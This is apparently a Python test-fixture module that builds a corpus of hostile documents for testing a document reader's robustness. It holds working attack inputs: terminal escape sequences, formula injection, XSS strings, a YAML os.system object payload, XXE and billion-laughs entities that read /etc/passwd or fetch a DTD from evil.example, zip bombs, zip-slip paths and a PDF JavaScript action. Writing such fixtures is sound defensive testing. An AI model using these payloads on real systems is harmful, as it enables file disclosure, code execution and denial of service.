"""A folder of hostile documents, made on the spot: file names and bytes, by what each of them tries."""

from __future__ import annotations

import io
import random
import zipfile
import zlib

from ..reading import makers

REPORT = "STRELSAU, May 3, 2019 (AP) — The ministers of France and Spain signed a joint statement on trade. "
OSC52 = "\x1b]52;c;ZXZpbA==\x07"
CLEAR = "\x1b[2J\x1b[H\x9b31m"
TITLE = "\x1b]0;evil\x1b\\"
LINK = "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\"
DEVICE = "\x1bP+q544e\x1b\\"
BIDI = "\u202eevil\u2066\u2069\u202c\u200f\u061c"
INVISIBLE = "\u200b\u200d\ufeff\u00ad\u2060\U000e0041"
MARKUP = (
    "[bold red]x[/] [/] [link=http://evil.example]x[/link] [@click=app.quit]x[/] [sic] \\[ [[ ]] :smile: {x} "
    "$(touch evil)"
)
FORMULAS = ("=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1")
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>&#27;]52;c;ZXZpbA==&#7;"


def article(payload: str, title: str = "A deal is made") -> str:
    """A short report with the payload in its title, a name, a quotation, and a paragraph of its own."""
    return (
        f"{title} {payload}\n\nBy Maria {payload}\n\n{REPORT}{payload}\n\n“We are glad, {payload}, that it is done,” "
        f"President Maria Roe {payload} said on Tuesday.\n\n{payload}\n\nSource: {payload}\n"
    )


def texts() -> dict[str, bytes]:
    """Plain texts with payloads for terminals, markup, spreadsheets and pages."""
    payloads = {
        "osc52": OSC52, "clear": CLEAR, "window-title": TITLE, "link": LINK, "device": DEVICE, "bidi": BIDI,
        "invisible": INVISIBLE, "markup": MARKUP, "script": SCRIPT, "combining": "e" + "\u0301" * 500,
        "wide": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \u6f22\u5b57", "backspace": "abc\b\b\bxyz\r\x0b\x0c",
        "separators": "a\u2028b\u2029c\x85d\x1ce",
    }  # fmt: skip
    found = {f"{name}.txt": article(payload).encode() for name, payload in payloads.items()}
    for number, formula in enumerate(FORMULAS):
        found[f"formula-{number}.md"] = (
            f"---\ntitle: {makers_json(formula)}\noutlet: {makers_json(formula)}\n---\n"
            f"{formula}\n\n“{formula}, we say, and so it shall be,” President Maria Roe said. {REPORT}\n"
        ).encode()
    return found


def makers_json(text: str) -> str:
    """A YAML scalar in quotation marks."""
    import json

    return json.dumps(text)


def front_matters() -> dict[str, bytes]:
    """Front matters that try to build objects, to swell, to lead away."""
    laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
    )
    bodies = {
        "yaml-object": "title: !!python/object/apply:os.system ['touch evil']\n",
        "yaml-laughs": laughs + "title: *a11\n",
        "yaml-itself": "title: &a [*a]\n",
        "yaml-deep": "title: " + "[" * 20_000 + "\n",
        "yaml-path": "title: ../../../etc/passwd\nurl: file:///etc/passwd\noutlet: ../../evil\n",
        "yaml-merge": "<<: &a {<<: *a}\ntitle: x\n",
        "yaml-escape": 'title: "\\e]52;c;ZXZpbA==\\a"\nbyline: "\\x9b31m"\nnote: "a\\nb"\n',
    }
    return {f"{name}.md": f"---\n{front}---\n{REPORT}\n".encode() for name, front in bodies.items()}


def pages() -> dict[str, bytes]:
    """HTML: deep, wide, with scripts and entities."""
    body = f"<h1>A deal {SCRIPT}</h1>" + f"<p>{REPORT}</p>" * 5
    return {
        "script.html": makers.make_html(body),
        "escape.html": makers.make_html(
            f"<h1>A&#27;]52;c;aGk=&#7; deal</h1><p>&#x9b;2J {REPORT}</p>" + f"<p>{REPORT}</p>" * 5
        ),
        "deep.html": b"<html><body>" + b"<div>" * 100_000 + REPORT.encode() + b"</body></html>",
        "entities.html": b'<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        + makers.make_html(body + "<p>&a;</p>"),
        "refresh.html": makers.make_html(body, '<meta http-equiv="refresh" content="0;url=file:///etc/passwd">'),
        "no-article.html": makers.make_html(""),
    }


def papers() -> dict[str, bytes]:
    """TEI: entities inside and outside, depth."""
    laughs = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    whole = "<TEI><text><body><p>{}</p></body></text></TEI>"
    return {
        "laughs.xml": f"<!DOCTYPE TEI [{laughs}]>{whole.format('&a9;')}".encode(),
        "quadratic.xml": f'<!DOCTYPE TEI [<!ENTITY a "{"a" * 50_000}">]>{whole.format("&a;" * 20_000)}'.encode(),
        "external.xml": f'<!DOCTYPE TEI [<!ENTITY a SYSTEM "file:///etc/passwd">]>{whole.format("&a;")}'.encode(),
        "parameter.xml": b'<!DOCTYPE TEI [<!ENTITY % a SYSTEM "file:///etc/passwd">%a;]><TEI/>',
        "dtd.xml": b'<!DOCTYPE TEI SYSTEM "http://evil.example/evil.dtd"><TEI><text><p>&x; words</p></text></TEI>',
        "deep.xml": b"<TEI><text>" + b"<div>" * 200_000,
        "include.xml": b'<TEI xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/><p>words</p></TEI>',
    }


def _swelling_pdf() -> bytes:
    """A PDF of a few kilobytes whose page unpacks to 300 MB."""
    content = zlib.compress(b"q " * 30_000_000, 9)
    pdf = makers.make_pdf([makers.pdf_page(["words"])])
    start, end = pdf.index(b"<< /Length"), pdf.index(b"endstream")
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\n" % (len(content), content)
    return pdf[:start] + stream + pdf[end:]


def pdfs() -> dict[str, bytes]:
    """PDFs: locked, damaged, empty, swelling, with loops and lies."""
    plain = makers.make_pdf([makers.pdf_page([REPORT[:90], REPORT[90:]])] * 2, {"Title": "=1+1", "Author": "[/]"})
    return {
        "encrypted.pdf": makers.make_encrypted_pdf(),
        "cut-off.pdf": plain[:300],
        "scan.pdf": makers.make_pdf([[]]),
        "swelling.pdf": _swelling_pdf(),
        "loop.pdf": plain.replace(b"/Kids [4 0 R 6 0 R]", b"/Kids [2 0 R 2 0 R]"),
        "lie.pdf": plain.replace(b"/Count 2", b"/Count 2000000000"),
        "script.pdf": plain.replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
        ),
        "formula-title.pdf": plain,
    }


def _docx_with(document: bytes) -> bytes:
    package = zipfile.ZipFile(io.BytesIO(makers.make_docx([("x", None)])))
    return makers.make_zip(
        {name: document if name == "word/document.xml" else package.read(name) for name in package.namelist()}
    )


def word_files() -> dict[str, bytes]:
    """DOCX: bombs of zip and XML, entities, payloads."""
    head = b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body>"
    run = b"<w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
    laughs = b'<!ENTITY a0 "hahahahaha">' + b"".join(
        b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)
    )
    return {
        "bomb.docx": makers.make_zip({"[Content_Types].xml": b"", "word/document.xml": b" " * 70_000_000}),
        "laughs.docx": _docx_with(b"<!DOCTYPE a [" + laughs + b"]>" + head + run % b"&a9;"),
        "external.docx": _docx_with(b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + head + run % b"&a;"),
        "deep.docx": _docx_with(head + b"<w:sdt>" * 100_000),
        "markup.docx": makers.make_docx(
            [(MARKUP + BIDI, "Title"), (article(MARKUP), None)], title=MARKUP, author="=1+1"
        ),
        "empty.docx": makers.make_docx([]),
    }


def mails() -> dict[str, bytes]:
    """E-mails: payloads in encoded headers, broken parts, depth."""
    return {
        "header.eml": b"From: =?utf-8?b?G10wO2V2aWwH?= <a@b.example>\nSubject: =?utf-8?q?=1b]52;c;aGk=3D=07_deal?=\n"
        b"Date: Fri, 99 May 20190 10:00:00\n\n" + REPORT.encode(),
        "parts.eml": b"From: a@b.example\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 30_000,
        "deep.eml": b"From: a@b.example\n"
        + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3000)),
        "names.eml": makers.make_mail(REPORT, attachment=("../../\x1b[2J evil.txt", b"x")),
        "long.eml": b"From: " + b"(" * 100_000 + b"\nSubject: " + b"=?utf-8?q?a?= " * 50_000 + b"\n\nwords\n",
        "broken.eml": b"From: a@b.example\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!!x!\n",
    }


def zips() -> dict[str, bytes]:
    """Zips: paths that lead out, bombs, nests, payloads in names."""
    nested = makers.make_zip({"a.txt": REPORT.encode()})
    for _ in range(12):
        nested = makers.make_zip({"inner.zip": nested})
    return {
        "paths.zip": makers.make_zip(
            {
                "../../evil.txt": REPORT.encode(),
                "/tmp/evil.txt": REPORT.encode(),
                "..\\..\\evil.md": REPORT.encode(),
                "a\x1b[2J\u202e.txt": REPORT.encode(),
                "=cmd.txt": REPORT.encode(),
            }
        ),
        "bomb.zip": makers.make_zip({f"{n}.txt": b"a" * 70_000_000 for n in range(2)}),
        "nested.zip": nested,
        "cut-off.zip": makers.make_zip({"a.txt": REPORT.encode()})[:-20],
    }


def raw() -> dict[str, bytes]:
    """Bytes of no kind: random, empty, NULs, marks without text, wrong suffixes, a line of 100 MB."""
    chance = random.Random(7)
    return {
        "random.txt": chance.randbytes(5_000),
        "random.pdf": chance.randbytes(5_000),
        "random.html": chance.randbytes(5_000),
        "random.eml": chance.randbytes(5_000),
        "random-head.pdf": b"%PDF-1.7\n" + chance.randbytes(5_000),
        "random-head.zip": b"PK\x03\x04" + chance.randbytes(5_000),
        "empty.txt": b"",
        "blank.txt": b" \n\t\r\n",
        "nul.txt": b"words\0words",
        "mark.txt": b"\xff\xfe",
        "half.txt": "words \U0001f600".encode()[:-2],
        "picture.txt": b"\x89PNG\r\n\x1a\n" + chance.randbytes(100),
        "line.txt": b"word " * 20_000_000,
    }


def everything() -> dict[str, bytes]:
    """All of the corpus, by file name."""
    found: dict[str, bytes] = {}
    for part in (texts, front_matters, pages, papers, pdfs, word_files, mails, zips, raw):
        for name, data in part().items():
            found[name if name not in found else f"{part.__name__}-{name}"] = data
    return found
